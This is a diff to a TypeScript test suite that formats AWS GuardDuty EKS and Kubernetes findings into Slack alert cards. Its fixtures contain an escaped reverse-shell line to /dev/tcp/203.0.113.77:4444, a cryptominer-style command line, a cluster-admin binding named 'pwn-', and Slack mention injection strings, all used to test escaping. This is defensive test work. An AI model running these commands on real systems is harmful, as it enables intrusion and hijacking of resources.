@@ -71,7 +71,7 @@ const FAMILIES: Family[] = [
     fields: {
       'EKS cluster': '`prod-eks-01` · ACTIVE',
       Groups: '`system:masters`, `system:authenticated`, `&lt;@U0EVIL&gt;`',
-      Workload: 'pods `kube-system/aws-node-x7k2p` · service account `aws-node` · :warning: hostNetwork',
+      Workload: 'pod `kube-system/aws-node-x7k2p` · service account `aws-node` · :warning: hostNetwork',
       Namespace: '`kube-system`',
       'API call': '*create* pods/exec `kube-system/aws-node-x7k2p` · status 101',
       Containers: ':warning: privileged',
@@ -132,6 +132,44 @@ const FAMILIES: Family[] = [
     escaped: [
       "`bash -c 'bash -i &gt;&amp; /dev/tcp/203.0.113.77/4444 0&gt;&amp;1' # '&lt;!channel&gt;' *pwned* _it_ ~gone~ @channel &amp; ; echo QWxh",
     ],
+  },
+  {
+    fixture: 'execution-runtime-newbinaryexecuted-eks',
+    headings: ['Kubernetes', 'Runtime'],
+    details: {
+      kubernetes: expect.objectContaining({
+        cluster: expect.objectContaining({ name: 'prod-eks-01' }),
+        workload: expect.objectContaining({ namespace: 'web', hostPid: true, hostPaths: ['/'] }),
+      }),
+      container: expect.objectContaining({ name: 'web-frontend', image: 'ghcr.io/example/web-frontend:2.4.1' }),
+      runtime: expect.objectContaining({
+        process: expect.objectContaining({ name: 'kworkerds', user: 'www-data', userId: 33, pid: 48213 }),
+        context: [
+          { key: 'modifyingProcess', value: 'curl (/usr/bin/curl, pid 48190)' },
+          { key: 'modifiedAt', value: '2026-11-26T11:59:47.000Z' },
+        ],
+        instanceConsoleUrl:
+          'https://us-west-2.console.aws.amazon.com/ec2/home?region=us-west-2#InstanceDetails:instanceId=i-0eks00node0000001',
+      }),
+    },
+    fields: {
+      Workload: 'pod `web/web-frontend-6d4cf56db6-8x2kq` · service account `default` · :warning: hostPID',
+      'Host paths': '`/`',
+      // The pod lists the container: it is shown there once, not again in the runtime section.
+      Containers: 'web-frontend `ghcr.io/example/web-frontend:2.4.1`',
+      Process: '`kworkerds`',
+      Executable: "`/tmp/.cache/&lt;!channel&gt;'kworkerds'&amp;`",
+      User: '`www-data`, uid 33, pid 48213',
+      'Parent lineage': '`sh` ← `node` ← `containerd-shim-runc-v2`',
+      'Command line': '&amp;&amp; /tmp/.cache/kworkerds -o pool.example:3333 *_~&lt;!here&gt;"`',
+    },
+    link: [
+      'Open cluster in EKS console',
+      /^https:\/\/us-west-2\.console\.aws\.amazon\.com\/eks\/home\?region=us-west-2#\/clusters\/prod-eks-01$/,
+    ],
+    resource: 'Instance i-0eks00node0000001 (prod-eks-01-ng-a) · EKS cluster `prod-eks-01` (pod web/web-frontend-6d4cf56db6-8x2kq)',
+    digest: 'Instance i-0eks00node0000001 (prod-eks-01-ng-a) · EKS cluster prod-eks-01 (pod web/web-frontend-6d4cf56db6-8x2kq)',
+    escaped: ['• Modified by: `curl (/usr/bin/curl, pid 48190)`\n• Modified at: 2026-11-26 11:59 UTC'],
   },
   {
     fixture: 'execution-ec2-maliciousfile',
@@ -479,6 +517,40 @@ describe('family specifics', () => {
       text: { text: 'Open instance in EC2 console' },
       url: 'https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#InstanceDetails:instanceId=i-0abc1234def567890',
     });
+  });
+
+  it('Kubernetes RBAC findings: the permission checked, the role binding and the role', () => {
+    const raw = loadFixture('execution-kubernetes-exec-in-kube-system-pod');
+    raw.Type = 'PrivilegeEscalation:Kubernetes/PrivilegedContainer';
+    raw.Service = {
+      ...raw.Service,
+      Action: {
+        ...raw.Service?.Action,
+        KubernetesPermissionCheckedDetails: { Verb: 'create', Resource: 'clusterrolebindings', Namespace: 'kube-system', Allowed: false },
+        KubernetesRoleBindingDetails: {
+          Kind: 'ClusterRoleBinding',
+          Name: 'pwn-<!channel>',
+          RoleRefKind: 'ClusterRole',
+          RoleRefName: 'cluster-admin',
+        },
+        KubernetesRoleDetails: { Kind: 'ClusterRole', Name: 'cluster-admin' },
+      },
+    };
+    const section = sectionHeaded(findingCard(toFinding(raw)), 'Kubernetes');
+    expect(fieldIn(section, 'Permission checked')).toBe('*create* clusterrolebindings in `kube-system` · denied');
+    expect(fieldIn(section, 'Role binding')).toBe('ClusterRoleBinding `pwn-&lt;!channel&gt;` → ClusterRole `cluster-admin`');
+    expect(fieldIn(section, 'Role')).toBe('ClusterRole `cluster-admin`');
+    assertValidMessage(findingCard(toFinding(raw)));
+  });
+
+  it('a container the task or pod does not list is shown in the runtime section, once', () => {
+    const raw = loadFixture('execution-runtime-newbinaryexecuted-eks');
+    const workload = raw.Resource?.KubernetesDetails?.KubernetesWorkloadDetails;
+    if (workload) workload.Containers = [];
+    const card = findingCard(toFinding(raw));
+    expect(fieldIn(sectionHeaded(card, 'Runtime'), 'Container')).toBe('web-frontend `ghcr.io/example/web-frontend:2.4.1`');
+    expect(fieldIn(sectionHeaded(card, 'Kubernetes'), 'Containers')).toBeUndefined();
+    expect(texts(card).filter((t) => t.includes('ghcr.io/example/web-frontend'))).toHaveLength(1);
   });
 
   it('an EKS runtime finding on a node keeps the instance and names the cluster', () => {
